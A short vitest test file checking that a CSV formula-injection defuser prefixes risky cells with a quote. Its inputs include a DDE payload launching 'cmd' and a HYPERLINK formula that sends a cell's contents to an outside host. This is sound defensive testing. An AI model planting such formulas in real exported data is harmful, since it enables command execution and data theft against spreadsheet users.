import { expect, test } from 'vitest';
import { defuseFormula } from '../../src/core/shared/csv-formulas.ts';

test.each([
  ['= starts a formula', '=1+1', "'=1+1"],
  ['+ starts a formula', '+1+cmd|/C calc', "'+1+cmd|/C calc"],
  ['- starts a formula', '-2+3', "'-2+3"],
  ['@ starts a formula (Lotus-style functions)', '@SUM(A1)', "'@SUM(A1)"],
  ['a tab first: some spreadsheets skip it and read the formula', '\t=1', "'\t=1"],
  ['a carriage return first: likewise', '\r=1', "'\r=1"],
  ['the HYPERLINK exfiltration of the issue', '=HYPERLINK("http://x/?"&B2,"y")', `'=HYPERLINK("http://x/?"&B2,"y")`],
  ['a negative number stays a number', '-12.50', '-12.50'],
  ['a formula character later is harmless', 'Jane = Partner', 'Jane = Partner'],
  ['an ordinary email', 'jane@example.com', 'jane@example.com'],
  ['empty', '', ''],
])('%s: %j → %j', (_label, cell, expected) => {
  expect(defuseFormula(cell)).toBe(expected);
});
